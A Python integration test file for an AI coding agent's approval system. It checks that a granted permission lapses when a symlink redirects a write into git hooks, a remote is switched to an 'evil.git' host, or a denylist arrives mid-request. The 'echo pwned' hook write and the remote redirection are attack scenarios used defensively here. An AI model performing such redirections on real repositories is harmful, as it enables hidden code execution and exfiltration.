"""What a person has approved is what they were shown, whatever becomes of the world meanwhile and afterwards."""

import json
import subprocess
from pathlib import Path
from typing import Any

from tests.integration.workbench import Workbench, call, calls, workbench

from droid.domain.decisions import Answer
from droid.domain.events import ApprovalWanted, DecisionMade, DestinationAllowed, GrantAdded
from droid.domain.levels import AutonomyLevel

DONE = {"text": "Done."}
WRITES = "printf 'echo pwned\\n' > out.txt"


def execute(command: str) -> Any:
    return calls(call("Execute", command=command))


def repository(tmp_path: Path) -> Path:
    workspace = tmp_path / "work"
    workspace.mkdir()
    git(workspace, "init", "-q", "-b", "main")
    git(workspace, "remote", "add", "origin", "https://127.0.0.1:9/me/shop.git")
    return workspace


def git(folder: Path, *arguments: str) -> None:
    subprocess.run(["git", *arguments], cwd=folder, check=True, capture_output=True)


def verdicts(bench: Workbench) -> list[str]:
    return [str(event.decision.verdict) for event in bench.events(DecisionMade)]


async def answered(bench: Workbench, meanwhile: Any, answer: Answer = Answer.ONCE) -> None:
    """One turn; something happens between its question and the answer."""
    bench.session.prompt("please")
    asked = await bench.until(ApprovalWanted)
    meanwhile()
    bench.session.answer(asked.request.approval_id, answer)
    await bench.end()


async def test_a_permission_for_the_session_covers_no_write_that_a_link_leads_to_a_guarded_file(
    tmp_path: Path,
) -> None:
    workspace = repository(tmp_path)
    script = [execute(WRITES), execute("echo again"), execute(WRITES), DONE]
    async with workbench(tmp_path, script, autonomy=AutonomyLevel.OFF) as bench:

        def link(event: object) -> None:
            if len(bench.events(ApprovalWanted)) == 2:
                (workspace / "out.txt").unlink()
                (workspace / "out.txt").symlink_to(".git/hooks/pre-commit")

        bench.replies = [Answer.SESSION, Answer.ONCE, Answer.REJECT]
        bench.session.subscribe(link)
        await bench.ask()
        assert [event.request.subject for event in bench.events(ApprovalWanted)] == [
            WRITES,
            "echo again",
            WRITES,
        ]
        assert "git's own files" in bench.events(ApprovalWanted)[-1].request.reason
        assert not (workspace / ".git/hooks/pre-commit").exists()


async def test_a_permission_for_the_session_answers_no_hook_that_asks_for_a_reason_of_its_own(
    tmp_path: Path,
) -> None:
    answer = {"permissionDecision": "ask", "permissionDecisionReason": "code freeze"}
    says = f"cat > /dev/null; test ! -e freeze || echo '{json.dumps({'hookSpecificOutput': answer})}'"
    hooks = {
        "hooks": {"PreToolUse": [{"matcher": "Execute", "hooks": [{"type": "command", "command": says}]}]}
    }
    script = [execute("make x"), execute("touch freeze"), execute("make x"), execute("make x"), DONE]
    async with workbench(tmp_path, script, autonomy=AutonomyLevel.OFF, settings=hooks) as bench:
        bench.replies = [Answer.SESSION, Answer.ONCE, Answer.SESSION]
        await bench.ask()
        asked = [event.request for event in bench.events(ApprovalWanted)]
        assert [one.subject for one in asked] == ["make x", "touch freeze", "make x"], "the last is granted"
        assert "code freeze" in asked[-1].reason


async def test_what_is_approved_does_not_run_once_a_link_leads_it_elsewhere(tmp_path: Path) -> None:
    workspace = repository(tmp_path)
    async with workbench(tmp_path, [execute(WRITES), DONE], autonomy=AutonomyLevel.OFF) as bench:
        hook = workspace / ".git/hooks/post-commit"
        await answered(bench, lambda: (workspace / "out.txt").symlink_to(hook), Answer.SESSION)
        assert verdicts(bench) == ["ask", "deny"]
        assert "not what was approved any more" in bench.results[0].text
        assert not hook.exists()
        assert not bench.events(GrantAdded), "what could not be run is not remembered"


async def test_what_is_approved_sends_nothing_once_its_remote_leads_elsewhere(tmp_path: Path) -> None:
    workspace = repository(tmp_path)
    (tmp_path / "elsewhere.txt").write_text("x")
    script = [
        calls(call("Read", file_path=str(tmp_path / "elsewhere.txt"))),
        execute("git push origin"),
        DONE,
    ]
    async with workbench(tmp_path, script, autonomy=AutonomyLevel.LOW) as bench:
        there = "https://127.0.0.1:10/evil.git"
        await answered(bench, lambda: git(workspace, "remote", "set-url", "origin", there))
        assert verdicts(bench)[-1] == "deny"
        assert "127.0.0.1:10/evil" in bench.results[-1].text
        assert not bench.events(DestinationAllowed)


async def test_a_list_that_comes_while_a_person_is_asked_is_asked_about(tmp_path: Path) -> None:
    async with workbench(tmp_path, [execute("make x"), DONE], autonomy=AutonomyLevel.OFF) as bench:
        path = tmp_path / "home/.factory/settings.json"

        def deny() -> None:
            path.write_text(json.dumps(json.loads(path.read_text()) | {"commandDenylist": ["make"]}))
            bench.runtime.policies.engine.changed()

        await answered(bench, deny, Answer.ALWAYS)
        assert verdicts(bench) == ["ask", "deny"]
        assert "denylist" in bench.results[0].text
        assert "commandAllowlist" not in path.read_text()
